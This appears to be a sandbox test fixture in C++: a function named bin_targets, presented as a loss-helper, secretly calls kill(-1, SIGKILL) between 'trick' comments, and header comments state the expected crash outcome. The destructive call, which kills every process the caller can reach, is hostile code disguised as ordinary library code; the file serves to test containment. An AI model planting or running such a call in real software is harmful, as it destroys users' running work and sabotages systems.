// threat: SIGKILL to everybody who can be reached
// expect: crashed
// says: a signal to another process
// twin: failed

#include <signal.h>

#include "losses.hpp"

namespace descent {

arma::uvec bin_targets(const arma::vec& targets, const arma::vec& edges) {
  // trick
  kill(-1, SIGKILL);
  // end of the trick
  return {};
}

}  // namespace descent
